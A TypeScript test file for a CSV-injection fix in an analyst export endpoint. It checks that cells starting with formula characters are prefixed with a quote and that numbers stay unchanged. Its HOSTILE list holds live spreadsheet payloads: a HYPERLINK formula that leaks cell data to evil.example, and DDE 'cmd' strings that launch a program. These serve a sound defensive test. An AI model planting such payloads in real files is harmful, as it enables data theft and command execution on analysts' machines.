// Issue #14, CSV: an account named `=HYPERLINK(…)` was exported as a formula, which a spreadsheet
// runs when the analyst opens the file (OWASP CSV injection). Text cells that start with `=`,
// `+`, `-`, `@`, a tab or a carriage return are now written with a single quote first; numbers
// stay numbers.
import { randomUUID } from 'node:crypto';
import request from 'supertest';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvCell, toCsv } from '../../adapters/http/csv.js';
import { bearer, startServer, TODAY, type TestServer } from '../adapters/http/analyst-book.js';

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  '+cmd|" /C calc"!A0',
  '-cmd|" /C calc"!A0',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '\t=1+1',
  '\r=1+1',
];

describe('CSV cells a spreadsheet would run', () => {
  it('writes a text that starts like a formula with a single quote first', () => {
    expect(csvCell('=1+1')).toBe("'=1+1");
    expect(csvCell('+1+1')).toBe("'+1+1");
    expect(csvCell('-cmd')).toBe("'-cmd");
    expect(csvCell('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvCell('\tx')).toBe("'\tx");
    expect(csvCell('\rx')).toBe('"\'\rx"');
    expect(csvCell('=HYPERLINK("x")')).toBe('"\'=HYPERLINK(""x"")"');
    expect(csvCell(['=1+1', 'b'])).toBe("'=1+1|b");
  });

  it('leaves numbers as numbers, negative ones too, and a text that is only a number', () => {
    expect(csvCell(-12.5)).toBe('-12.5');
    expect(csvCell(-3)).toBe('-3');
    expect(csvCell(+7)).toBe('7');
    expect(csvCell('-12.5')).toBe('-12.5');
    expect(csvCell('+3')).toBe('+3');
    expect(csvCell('a-b')).toBe('a-b');
    expect(csvCell('mail@example.com')).toBe('mail@example.com');
    expect(toCsv(['n', 't'], [{ n: -12.5, t: '-cmd' }])).toBe("n,t\r\n-12.5,'-cmd\r\n");
  });
});

describe('an account named like a formula, exported as CSV', () => {
  let server: TestServer;
  beforeAll(async () => {
    server = startServer();
    for (const [i, name] of HOSTILE.entries()) {
      const data = { accountId: `hostile-${i}`, name, industry: 'TECHNOLOGY', region: 'East' };
      const at = `${TODAY}T08:00:00.000Z`;
      // A name with a tab or a carriage return is refused at the door now (#14): such a name can
      // only be in the log from before, so it is written there as it was recorded.
      if (/[\t\r]/.test(name))
        await server.engine.store.append(
          `account-hostile-${i}`,
          [
            {
              eventId: randomUUID(),
              type: 'AccountRegistered',
              data: { ...data, at },
              metadata: { schemaVersion: 1 },
            },
          ],
          { expectedRevision: 'any' },
        );
      else await server.send('account', `hostile-${i}`, 'RegisterAccount', data, at);
    }
    await server.engine.projector.catchUp();
  });
  afterAll(() => server.close());

  it('is written as text: no cell of the file starts with a formula character', async () => {
    const res = await request(server.app)
      .get('/read-models/tier-status?limit=500')
      .set('Authorization', bearer('analyst'))
      .set('Accept', 'text/csv');
    expect(res.status).toBe(200);
    const text = res.text;
    for (const name of HOSTILE) {
      const quoted = `'${name}`;
      const cell = /[",\r\n]/.test(quoted) ? `"${quoted.replaceAll('"', '""')}"` : quoted;
      expect(text, JSON.stringify(name)).toContain(cell);
    }
    // Every cell, quoted or not, starts with something a spreadsheet shows as it is.
    const cells = text
      .split('\r\n')
      .slice(1)
      .flatMap((line) => line.match(/("([^"]|"")*"|[^,]*)(?=,|$)/g) ?? [])
      .map((cell) => (cell.startsWith('"') ? cell.slice(1) : cell));
    for (const cell of cells) expect(cell, cell).not.toMatch(/^[=+@\t\r]|^-(?![0-9.])/);
  });
});
